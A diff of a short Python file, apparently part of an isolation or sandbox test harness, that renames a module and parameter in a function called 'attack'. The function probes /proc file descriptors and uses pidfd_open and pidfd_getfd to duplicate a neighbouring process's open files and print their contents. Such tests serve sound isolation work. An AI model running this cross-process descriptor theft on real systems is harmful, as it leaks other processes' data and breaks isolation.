@@ -4,16 +4,16 @@ from __future__ import annotations
 
 import os
 
-from field import show, trying
+from attack_target import show, trying
 
 
-def attack(field):
+def attack(target):
     for number in range(3, 20):
         show(f"/proc/self/fd/{number}")
-        show(f"/proc/{field.neighbour}/fd/{number}")
+        show(f"/proc/{target.neighbour}/fd/{number}")
     with trying():
-        handle = os.pidfd_open(field.neighbour)
+        handle = os.pidfd_open(target.neighbour)
         for number in range(3, 20):
             with trying():
-                copy = field.call("pidfd_getfd", handle, number, 0)
+                copy = target.call("pidfd_getfd", handle, number, 0)
                 print(os.pread(copy, 4096, 0).decode(errors="replace"))
